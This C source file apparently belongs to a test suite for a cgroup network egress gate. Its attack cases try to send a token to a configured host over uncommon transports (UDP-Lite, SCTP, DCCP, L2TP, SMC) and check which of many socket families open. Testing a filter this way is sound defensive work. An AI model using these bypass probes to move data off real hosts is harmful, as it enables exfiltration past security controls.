// Transports and families that the cgroup hooks know little or nothing of.
#include "attack.h"
#include <linux/vm_sockets.h>

static void transport(int type, int protocol)
{
    struct sockaddr_in to = v4("WIRE4", "PORT");
    int fd = open_socket(AF_INET, type, protocol);
    connect_to(fd, &to, sizeof to);
    send_token(fd);
    sent();
}

ATTACK(udplite) { transport(SOCK_DGRAM, 136); }
ATTACK(sctp) { transport(SOCK_STREAM, 132); }
ATTACK(sctp_datagrams) { transport(SOCK_SEQPACKET, 132); }
ATTACK(dccp) { transport(6 /* SOCK_DCCP */, 33); }

ATTACK(l2tp)
{
    // struct sockaddr_l2tpip: no port, a connection id.
    struct {
        struct sockaddr_in address;
        uint32_t connection;
    } to = {v4("WIRE4", "PORT"), 1};
    to.address.sin_port = 0;
    int fd = open_socket(AF_INET, SOCK_DGRAM, 115);
    send_token_to(fd, &to, sizeof(struct sockaddr_in));
    sent();
}

ATTACK(smc)
{
    struct sockaddr_in to = v4("WIRE4", "PORT");
    int fd = open_socket(43 /* AF_SMC */, SOCK_STREAM, 0);
    connect_to(fd, &to, sizeof to);
    send_token(fd);
    sent();
}

// Created only: a connection would reach for the hypervisor.
ATTACK(vsock)
{
    open_socket(AF_VSOCK, SOCK_STREAM, 0);
    took("a vsock socket");
}

// Families that carry data off a host and that nothing of the gate's serves.
ATTACK(other_families)
{
    static const struct {
        int family, type, protocol;
        const char *name;
    } all[] = {
        {21, SOCK_SEQPACKET, 0, "an RDS socket"},    {30, SOCK_STREAM, 0, "a TIPC socket"},
        {31, SOCK_SEQPACKET, 0, "an L2CAP socket"},  {31, SOCK_STREAM, 3, "an RFCOMM socket"},
        {29, SOCK_RAW, 1, "a CAN socket"},           {9, SOCK_SEQPACKET, 0, "an X.25 socket"},
        {3, SOCK_DGRAM, 0, "an AX.25 socket"},       {5, SOCK_DGRAM, 0, "an AppleTalk socket"},
        {36, SOCK_DGRAM, 0, "a 802.15.4 socket"},    {35, SOCK_DGRAM, 2, "a Phonet socket"},
        {39, SOCK_SEQPACKET, 1, "an NFC socket"},    {42, SOCK_DGRAM, 0, "a QRTR socket"},
        {45, SOCK_DGRAM, 0, "an MCTP socket"},       {41, SOCK_SEQPACKET, 0, "a KCM socket"},
    };
    errno = EAFNOSUPPORT;
    for (size_t i = 0; i < sizeof all / sizeof *all; i++)
        if (socket(all[i].family, all[i].type, all[i].protocol) >= 0)
            took(all[i].name);
    stopped("socket");
}
